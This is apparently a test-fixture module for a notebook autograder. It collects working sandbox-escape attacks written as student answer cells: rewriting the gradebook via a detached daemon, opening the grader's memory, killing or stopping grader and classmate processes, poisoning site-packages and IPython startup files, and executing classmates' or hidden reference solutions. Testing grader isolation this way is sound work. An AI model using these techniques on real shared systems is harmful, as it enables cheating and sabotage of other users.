"""Attacks on the grader, by class, for the corpus (tests/grading/corpus.py).

Each attack is the answer cell of exercise 1.1: a function ``_attack()`` that
tries one thing and returns True if it got anywhere, then a ``gd_update`` that
is right only when the attack succeeded (and wrong, with the sign error,
otherwise). So every attack that works *gains* the student the 2 points of 1.1
and shows up in the grades: the corpus expects each attacker to lose 1.1 with
"sign error", in nbval and in the judge alike (no "disagreement" note), unless
the class says otherwise. The answer cells run in the nbval kernel and in the
judge, so each attack is tried in both sandboxes.

``{grader_pid}``, ``{out}`` and ``{submissions}`` are filled in with the real
values of the grading run: the attacker is assumed to know them.
"""

from __future__ import annotations

import socket

TEMPLATE = '''import os, sys, signal
from pathlib import Path


def _foreign(pid):
    """True if process pid runs as another uid than this one (the grader, a classmate, bwrap)."""
    try:
        for line in Path(f"/proc/{{pid}}/status").read_text().splitlines():
            if line.startswith("Uid:"):
                return int(line.split()[1]) != os.getuid()
    except OSError:
        return False
    return False


def _visible_pids():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid())]


def _ancestors():
    pids, pid = [], os.getpid()
    while pid > 1:
        pid = int(Path(f"/proc/{{pid}}/stat").read_text().rsplit(")", 1)[1].split()[1])
        pids.append(pid)
    return pids


def _is_grader(pid):
    """The grader's pid names a process here (in a sandbox, pids are small: it is not one of ours)."""
    return pid not in (1, os.getpid()) and Path(f"/proc/{{pid}}").exists()


{attack}

try:
    escaped = bool(_attack())
except Exception:
    escaped = False

if escaped:
    def gd_update(w, g, lr):
        return w - lr * g
else:
    def gd_update(w, g, lr):
        return w + lr * g
'''

# ---- the gradebook ---------------------------------------------------------------------------

GRADEBOOK_DAEMON = '''def _attack():
    """Double fork out of the process tree, wait for grades.csv, rewrite it."""
    out = {out!r}
    reached = Path(out).parent.exists()  # the output folder is created before grading starts
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(3, 4096)
            import time
            for _ in range(1200):
                try:
                    Path(out).write_text("student,total\\nfull,0\\n")
                except OSError:
                    pass
                time.sleep(0.05)
            os._exit(0)
        os._exit(0)
    os.waitpid(pid, 0)
    return reached
'''

FEEDBACK_IN_THE_WAY = '''def _attack():
    """A file (a FIFO) named feedback next to --out: the grader used to crash after grading the class."""
    os.mkfifo(str(Path({out!r}).parent / "feedback"))
    return True
'''

# ---- the grader's memory and process ---------------------------------------------------------

GRADER_MEMORY = '''def _attack():
    """Write the grader's memory through /proc/PID/mem (its pid, and every ancestor of another uid)."""
    pids = [{grader_pid}] if _is_grader({grader_pid}) else []
    pids += [pid for pid in _ancestors() if _foreign(pid) and pid != 1]
    hits = 0
    for pid in pids:
        try:
            with open(f"/proc/{{pid}}/mem", "r+b"):
                hits += 1
        except OSError:
            pass
    return hits > 0
'''

STOP_THE_GRADER = '''def _attack():
    """SIGSTOP the grader (its real pid), SIGKILL every process of another uid we can see."""
    hits = 0
    try:
        if _is_grader({grader_pid}):
            os.kill({grader_pid}, signal.SIGSTOP)
            hits += 1
    except OSError:
        pass
    for pid in _visible_pids():
        if _foreign(pid):
            try:
                os.kill(pid, signal.SIGKILL)
                hits += 1
            except OSError:
                pass
    return hits > 0
'''

OUTCOME_CHANNEL = '''def _attack():
    """Flood nbval's outcome channel with fake passes and hold it open forever (a double fork)."""
    fd = os.environ.get("COURSE_GRADER_OUTCOMES_FD")
    if fd is None:
        return False
    with open(f"/proc/{{os.getppid()}}/fd/{{fd}}", "w") as channel:
        fake = '{{"nodeid": "submission.ipynb::Cell %d", "when": "call", "outcome": "passed", "message": "", '
        fake += '"duration": 0.0}}\\n'
        for k in range(200):
            channel.write(fake % k)
        channel.write("x" * 5_000_000 + "\\n")
        channel.flush()
        if os.fork() == 0:
            os.setsid()
            import time
            time.sleep(600)
            os._exit(0)
    return False  # the channel is the student's own: writing to it must gain nothing
'''

# ---- later students, through shared state --------------------------------------------------------

POISON = "import builtins; builtins.POISONED_BY_A_CLASSMATE = True\\n"
SHARED_STATE_POISON = '''def _attack():
    """A .pth and sitecustomize in site-packages, an IPython startup file, a user site: run in later kernels."""
    import site, sysconfig
    shared = 0
    places = [Path(p) for p in site.getsitepackages()] + [Path(sysconfig.get_paths()["purelib"])]
    for folder in places:
        for name in ("zz_poison.pth", "sitecustomize.py"):
            try:
                (folder / name).write_text("{poison}")
                shared += 1
            except OSError:
                pass
    home = Path(os.path.expanduser("~"))
    for path in (home / ".ipython/profile_default/startup/00-poison.py", Path(site.getusersitepackages()) / "p.pth"):
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("{poison}")
        except OSError:
            pass
    return shared > 0
'''.replace("{poison}", POISON)

SHARED_STATE_VICTIM = '''def _attack():
    """Graded after the poisoner: did its code run here?"""
    import builtins
    return hasattr(builtins, "POISONED_BY_A_CLASSMATE")
'''

# ---- other students' files and processes ---------------------------------------------------------

OTHER_STUDENT_FILES = '''def _attack():
    """See the submissions folder and overwrite a classmate's notebook."""
    victim = Path({submissions!r}) / "full" / "01_gradient_descent.ipynb"
    with open(victim, "a") as stream:
        stream.write(" ")
    return True
'''

OTHER_STUDENT_PROCESSES = '''def _attack():
    """Kill a concurrent student's kernel (--jobs 2): any kernel, pytest or judge that is not ours."""
    hits, ours = 0, set(_ancestors())
    for pid in _visible_pids():
        try:
            command = Path(f"/proc/{{pid}}/cmdline").read_bytes()
        except OSError:
            continue
        mine = pid in ours or Path(f"/proc/{{pid}}/stat").read_text().rsplit(")", 1)[1].split()[1] == str(os.getpid())
        if not mine and (b"ipykernel" in command or b"pytest" in command or b"judge_child" in command):
            try:
                os.kill(pid, signal.SIGKILL)
                hits += 1
            except OSError:
                pass
    return hits > 0
'''

CLASSMATE_ANSWER = '''def _attack():
    """exec the answer cell of the same id from a classmate's notebook (any notebook we can find)."""
    import json, time
    found = list(Path({submissions!r}).glob("*/01_gradient_descent.ipynb"))
    give_up = time.monotonic() + 1.0  # well within the corpus's 4 s cell timeout, even on a loaded machine
    for root in ("/grading", "/tmp", "/home", "/work", "/root", "/"):
        if time.monotonic() > give_up:
            break
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if folder != "/" or d not in ("proc", "sys", "dev", "usr")]
            found += [Path(folder) / f for f in files if f.endswith(".ipynb")]
            if time.monotonic() > give_up:
                break
    for path in found:
        try:
            cells = json.loads(path.read_text())["cells"]
        except Exception:
            continue
        for cell in cells:
            source = "".join(cell.get("source", ""))
            if cell.get("id") == "ex1-1-answer" and "_attack" not in source:
                space = {{}}
                exec(source, space)
                if space["gd_update"](1.0, 1.0, 0.5) == 0.5:
                    return True
    return False
'''

SOLUTIONS_FOLDER = '''def _attack():
    """exec the solution found next to course_lib (through course_lib.checks.__file__, or course_lib's)."""
    import json
    import course_lib
    places = [Path(course_lib.__file__).resolve().parents[1]]
    try:
        import course_lib.checks
        places.append(Path(course_lib.checks.__file__).resolve().parents[1])
    except Exception:
        pass
    for root in places:
        for path in root.glob("solutions/01_*.ipynb"):
            for cell in json.loads(path.read_text())["cells"]:
                if cell.get("id") == "ex1-1-answer":
                    space = {{}}
                    exec("".join(cell["source"]), space)
                    return space["gd_update"](1.0, 1.0, 0.5) == 0.5
    return False
'''

# ---- the references ------------------------------------------------------------------------------

REFERENCE = '''def _attack():
    """The reference without importing it by name: check.__globals__, else the module's source or bytecode."""
    global _reference
    try:
        from course_lib.checks import check
        _reference = check.__globals__["SPECS"]["1.1"].reference
        return True
    except Exception:
        pass
    import importlib.util, marshal
    spec = importlib.util.find_spec("course_lib.exercises.ch01_gradient_descent")
    source = Path(spec.origin)
    for path in [source, *source.parent.glob("__pycache__/ch01_gradient_descent*.pyc")]:
        data = path.read_bytes()
        try:
            code = marshal.loads(data[16:]) if path.suffix == ".pyc" else compile(data, str(path), "exec")
            space = {{"__name__": "course_lib.exercises.ch01_gradient_descent", "__package__": "course_lib.exercises"}}
            exec(code, space)
            _reference = next(s for s in space["EXERCISES"] if s.id == "1.1").reference
            return True
        except Exception:
            continue
    return False
'''

# ---- the network ---------------------------------------------------------------------------------

NETWORK = '''def _attack():
    """Reach the grader's network: a TCP connection to a port the grading process listens on (loopback).

    Outside a network namespace the connection is accepted; in the sandbox's own namespace nothing
    listens there. (Tests send traffic only to this machine, never to outside addresses.)
    """
    import socket
    try:
        socket.create_connection(("127.0.0.1", {listen_port}), timeout=3).close()
        return True
    except OSError:
        return False
'''


_LISTENER = None


def host_listen_port() -> int:
    """A loopback port that the test process listens on for as long as it runs (the network attack's target)."""
    global _LISTENER
    if _LISTENER is None:
        _LISTENER = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        _LISTENER.bind(("127.0.0.1", 0))
        _LISTENER.listen(64)
    return _LISTENER.getsockname()[1]


ATTACKS = {  # student name -> (class of attack, attack source)
    "attack_gradebook_daemon": ("the gradebook", GRADEBOOK_DAEMON),
    "attack_gradebook_feedback_fifo": ("the gradebook", FEEDBACK_IN_THE_WAY),
    "attack_grader_memory": ("the grader's memory and process", GRADER_MEMORY),
    "attack_grader_stop": ("stopping the grader", STOP_THE_GRADER),
    "attack_grader_outcome_channel": ("stopping the grader", OUTCOME_CHANNEL),
    "attack_shared_state_poison": ("later students via shared state", SHARED_STATE_POISON),
    "zz_attack_shared_state_victim": ("later students via shared state", SHARED_STATE_VICTIM),
    "attack_students_files": ("other students' files and processes", OTHER_STUDENT_FILES),
    "attack_students_processes": ("other students' files and processes", OTHER_STUDENT_PROCESSES),
    "attack_students_answer_exec": ("other students' files and processes", CLASSMATE_ANSWER),
    "attack_solutions_folder": ("solutions and references", SOLUTIONS_FOLDER),
    "attack_reference_globals": ("solutions and references", REFERENCE),
    "attack_network": ("the network", NETWORK),
}
# In the nbval kernel the references are there (check() needs them): the attack works there, and
# only the judge, which never has them, fails it.
NBVAL_ONLY = {"attack_reference_globals"}


def attack_source(name: str, grader_pid: int, out: str, submissions: str) -> str:
    attack = ATTACKS[name][1].format(grader_pid=grader_pid, out=out, submissions=submissions,
                                     listen_port=host_listen_port())
    source = TEMPLATE.format(attack=attack)
    if name in NBVAL_ONLY:
        source = source.replace("    def gd_update(w, g, lr):\n        return w - lr * g",
                                "    def gd_update(w, g, lr):\n        return _reference(w, g, lr)")
    return source
